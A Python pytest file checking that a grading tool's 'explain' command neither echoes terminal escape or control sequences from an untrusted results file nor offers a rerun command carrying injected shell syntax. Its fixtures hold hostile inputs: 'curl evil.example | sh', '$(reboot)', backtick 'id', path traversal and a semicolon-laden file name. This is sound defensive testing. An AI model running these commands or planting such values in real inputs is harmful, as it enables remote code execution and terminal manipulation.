"""`notegrad explain` reads a file that may come from a stranger: it repeats its texts, and nothing else."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from notegrad.cli.main import run

CODES = "\x1b]0;titre\x07\x1b[2J\x9b31m\u202e\u2028\r\ntp"
HOSTILE = {
    "submission": f"alice{CODES}",
    "assignment": "tp1; curl evil.example | sh #",
    "status": f"graded{CODES}",
    "versions": {f"torch{CODES}": f"2.4{CODES}", "x" * 5_000: "y" * 5_000},
    "bundle_sha256": f"{CODES}{'a' * 64}"[:64],
    "device": "cuda$(reboot)",
    "mode": CODES,
    "tier": f"full{CODES}",
}


def written(folder: Path, ours: dict[str, object]) -> str:
    path = folder / "results.json"
    path.write_text(json.dumps({"extra_data": {"notegrad": ours}}), "utf-8")
    return str(path)


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_no_text_of_the_file_steers_a_terminal(
    options: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No escape sequence, control, direction or line of the file's reaches the terminal, in either form."""
    run(["explain", written(tmp_path, HOSTILE), *options])
    out = capsys.readouterr().out
    assert "alice" in out
    assert all(char.isprintable() or char == "\n" for char in out)
    if options:
        assert json.loads(out)["submission"] == HOSTILE["submission"]
    else:
        assert max(map(len, out.splitlines())) < 1_000


@pytest.mark.parametrize(
    "name", ["tp1; reboot", "$(reboot)", "--out=/etc", "../../etc/x", "a b", "`id`", "tp\nreboot", "é'"]
)
def test_the_command_that_is_offered_is_not_the_files(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The line to type again holds a name of the file's only where it is nothing but a name."""
    run(["explain", written(tmp_path, {"assignment": name, "device": f"cuda{name}:0"})])
    offered = capsys.readouterr().out.splitlines()[-1].removeprefix("Again: ")
    assert shlex.split(offered) == ["notegrad", "grade", "BUNDLE", "NOTEBOOK", "--out", "DIR", "--fresh"]


def test_a_name_and_a_device_of_ours_are_offered(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What `notegrad grade` wrote itself gives the whole command."""
    run(["explain", written(tmp_path, {"assignment": "tp9-essai", "device": "cuda:1"})])
    assert capsys.readouterr().out.splitlines()[-1] == (
        "Again: notegrad grade tp9-essai NOTEBOOK --out DIR --fresh --device cuda"
    )


def test_a_bundle_is_quoted(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The path that is offered again is one word for a shell."""
    from notegrad.authoring.reproducible_zip import pack_bundle
    from notegrad.settings import AssignmentSettings

    bundle = tmp_path / "mon tp; reboot.zip"
    bundle.write_bytes(
        pack_bundle(settings=AssignmentSettings(slug="tp", title="TP"), tests={"q.py": "OK_FORMAT = True"}, files={},
                    otter_config={}, requirements="", deployment={}, programs=())
    )  # fmt: skip
    run(["explain", written(tmp_path, {"assignment": "tp"}), "--bundle", str(bundle)])
    offered = capsys.readouterr().out.splitlines()[-1].removeprefix("Again: ")
    assert shlex.split(offered)[2] == str(bundle)
